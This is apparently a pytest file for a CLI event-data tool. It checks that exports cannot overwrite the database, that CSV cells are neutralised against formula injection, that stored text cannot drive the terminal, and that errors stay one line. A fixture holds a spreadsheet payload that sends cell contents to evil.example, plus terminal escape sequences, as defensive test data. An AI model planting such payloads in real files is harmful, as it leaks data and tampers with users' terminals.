"""Issue 12: outputs never overwrite the store, CSV cells cannot run as formulas, stored text
cannot drive the terminal, and bad option values or a full disk are one-line errors (no spaCy)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from flashpoint.cli import cli
from flashpoint.store import open_store, write_article
from tests.analysis.corpus import build
from tests.conftest import REPO
from tests.store.helpers import VERSION, document, event


def invoke(*args, env=None):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False, env=env)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "store.db"
    with open_store(str(path)) as store:
        build(store)
    return path


@pytest.fixture
def hostile(tmp_path):
    """A store whose text is written to attack spreadsheets and terminals."""
    path = tmp_path / "hostile.db"
    with open_store(str(path)) as store:
        for text, publisher in [
            ("Formula text.", '=HYPERLINK("http://evil.example?"&A1,"x")'),
            ("Escape text.", "\x1b[2J\x1b]0;pwned\x07Evil News"),
        ]:
            doc = document(text, publisher=publisher)
            write_article(store, doc, [event(doc.article.doc_id)], coder_version=VERSION)
    return path


# ---- -o / --data never replace the store -------------------------------------------------------


def test_outputs_naming_the_store_are_refused_however_spelled(db, tmp_path, monkeypatch):
    before = digest(db)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x").mkdir()
    cases = [
        ("export", "--format", "csv", "--db", db, "-o", db),
        ("export", "--format", "jsonl", "--db", f"sqlite:///{db}", "-o", "./x/../store.db"),
        ("export", "--format", "parquet", "--db", "store.db", "-o", str(db) + "-wal", "--force"),
        ("dyad", "USA", "ISR", "--db", db, "--format", "csv", "-o", "store.db", "--force"),
        ("network", "--db", db, "-o", db),
        ("plot", "dyad", "USA", "ISR", "--db", db, "-o", tmp_path / "p.png", "--data", db),
        ("plot", "network", "--db", db, "-o", "x/../store.db"),
    ]
    for args in cases:
        result = invoke(*args)
        assert result.exit_code == 1, (args, result.output)
        assert "is the event store" in result.output, (args, result.output)
        assert len(result.output.strip().splitlines()) == 1
    # FLASHPOINT_DB names the store when --db is not given.
    result = invoke("export", "--format", "csv", "-o", "store.db",
                    env={"FLASHPOINT_DB": str(db)})  # fmt: skip
    assert result.exit_code == 1 and "is the event store" in result.output
    os.symlink(db, tmp_path / "link.csv")
    result = invoke("export", "--format", "csv", "--db", db, "-o", tmp_path / "link.csv")
    assert result.exit_code == 1 and "is the event store" in result.output
    assert digest(db) == before


def test_a_file_of_another_kind_needs_force(db, tmp_path):
    picture = tmp_path / "chart.png"
    assert invoke("plot", "dyad", "USA", "ISR", "--db", db, "-o", picture).exit_code == 0
    refused = invoke("export", "--format", "csv", "--db", db, "-o", picture)
    assert refused.exit_code == 1
    assert "exists and is a PNG image, not a text file" in refused.output
    assert "--force" in refused.output and picture.read_bytes().startswith(b"\x89PNG")
    text = tmp_path / "old.csv"
    text.write_text("an older export\n")
    assert invoke("export", "--format", "csv", "--db", db, "-o", text).exit_code == 0
    assert invoke("plot", "dyad", "USA", "ISR", "--db", db, "-o", text).exit_code == 1
    forced = invoke("export", "--format", "csv", "--db", db, "-o", picture, "--force")
    assert forced.exit_code == 0 and picture.read_text().startswith("event_row_id,")


# ---- one-line errors instead of "internal error" ----------------------------------------------


def test_missing_folder_full_disk_and_not_a_database_are_one_line_errors(db, tmp_path):
    missing = invoke("export", "--format", "csv", "--db", db, "-o", tmp_path / "no" / "x.csv")
    assert missing.exit_code == 1 and "there is no folder" in missing.output
    if Path("/dev/full").exists():
        full = invoke("export", "--format", "csv", "--db", db, "-o", "/dev/full")
        assert full.exit_code == 1, full.output
        assert "flashpoint: error: No space left on device" in full.output
    readme = invoke("events", "--db", REPO / "README.md")
    assert readme.exit_code == 1 and "cannot open database" in readme.output
    for result in (missing, readme):
        assert "internal error" not in result.output
        assert len(result.output.strip().splitlines()) == 1


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_standard_output_on_a_full_disk_is_one_line_and_status_1(db):
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [sys.executable, "-m", "flashpoint", "events", "--db", str(db), "--format", "csv"],
            stdout=full, stderr=subprocess.PIPE, text=True, cwd=REPO, timeout=120,
        )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.strip() == "flashpoint: error: No space left on device"


def test_bad_option_values_are_usage_errors(db, tmp_path):
    for args in [
        ("events", "--db", db, "--min-confidence", "nan"),
        ("export", "--format", "csv", "--db", db, "--min-confidence", "NaN"),
        ("code", "-", "--min-confidence", "nan"),
        ("ingest", tmp_path, "--db", db, "--window", "1000000"),
        ("recode", "--db", db, "--window", "-1"),
    ]:
        result = invoke(*args)
        assert result.exit_code == 2, (args, result.output)
        assert "internal error" not in result.output


# ---- CSV injection and terminal escapes --------------------------------------------------------


def test_csv_cells_cannot_run_as_formulas_unless_raw(hostile):
    for command in (("export", "--format", "csv"), ("events", "--format", "csv")):
        result = invoke(*command, "--db", hostile)
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
        assert '\'=HYPERLINK("http://evil.example?"&A1,"x")' in {r["publisher"] for r in rows}
        assert {r["goldstein"] for r in rows} == {"-10.0"}  # a number stays a number
        raw = invoke(*command, "--db", hostile, "--raw-csv").stdout
        rows = list(csv.DictReader(io.StringIO(raw)))
        assert '=HYPERLINK("http://evil.example?"&A1,"x")' in {r["publisher"] for r in rows}


def test_csv_cell_neutralisation_follows_owasp():
    from flashpoint.export.spreadsheet import neutralise

    for cell in ("=1+1", "+1", "-1+cmd", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    assert neutralise("Reuters") == "Reuters" and neutralise(-10.0) == -10.0


def test_the_event_table_escapes_control_characters(hostile):
    result = invoke("events", "--db", hostile)
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b[2J\\x1b]0;p" in result.stdout  # cut to the column width
